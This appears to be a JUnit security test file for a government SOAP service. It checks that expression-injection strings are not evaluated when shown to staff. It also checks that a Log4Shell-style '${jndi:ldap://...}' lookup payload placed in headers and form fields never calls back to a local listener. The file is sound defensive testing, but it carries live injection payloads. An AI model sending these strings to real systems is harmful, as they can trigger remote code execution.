package uk.gov.dwp.jobmatch.soap.attack;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import uk.gov.dwp.jobmatch.outside.PartnerSystem;
import uk.gov.dwp.jobmatch.outside.StaffMember;
import uk.gov.dwp.jobmatch.outside.Submission;
import uk.gov.dwp.jobmatch.soap.Caller;
import uk.gov.dwp.jobmatch.soap.Message;

/** Attack: text that a page, a mail or the log would work out (EL, CVE-2018-14667 in RichFaces; look-ups, CVE-2021-44228 in Log4j). */
class ExpressionInjectionIT {

    @ParameterizedTest
    @ValueSource(
            strings = {"a#{41*271}b", "a${41*271}b", "a%{41*271}b", "a{{41*271}}b", "a*{41*271}b", "a<%= 41*271 %>b"})
    void a_page_shows_it_as_it_was_sent(String expression) {
        String reference = PartnerSystem.ofTelford()
                .raise(Submission.ofEmployerWithoutEmail()
                        .with("name", expression)
                        .with("organisationName", expression)
                        .with("contactNeeds", expression)
                        .with("summary", expression)
                        .with("detail", expression));

        String page = StaffMember.signedInAs("helpdesk").page("incident?reference=" + reference);

        assertFalse(page.contains("a11111b"), page);
        assertEquals(
                expression,
                Caller.HELPDESK.records().row("select detail from incident where reference = ?", reference));
    }

    @Test
    void the_log_looks_nothing_up() throws IOException {
        try (ServerSocket attacker = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            String lookUp = "${jndi:ldap://127.0.0.1:" + attacker.getLocalPort() + "/a}";

            Caller.with(lookUp, lookUp)
                    .header("User-Agent", lookUp)
                    .header("SOAPAction", lookUp)
                    .send(Message.ping());
            Caller.telford()
                    .header("User-Agent", lookUp)
                    .header("SOAPAction", lookUp)
                    .send(Message.ping(lookUp));
            Caller.telford().at(lookUp.replaceAll("[${}]", "_")).send(Message.ping());
            PartnerSystem.ofTelford().submit(Submission.ofEmployer().with("category", lookUp));
            PartnerSystem.ofTelford().submit(Submission.ofEmployer().with("name", lookUp));

            attacker.setSoTimeout(500);
            Assertions.assertThrows(SocketTimeoutException.class, attacker::accept);
        }
    }
}
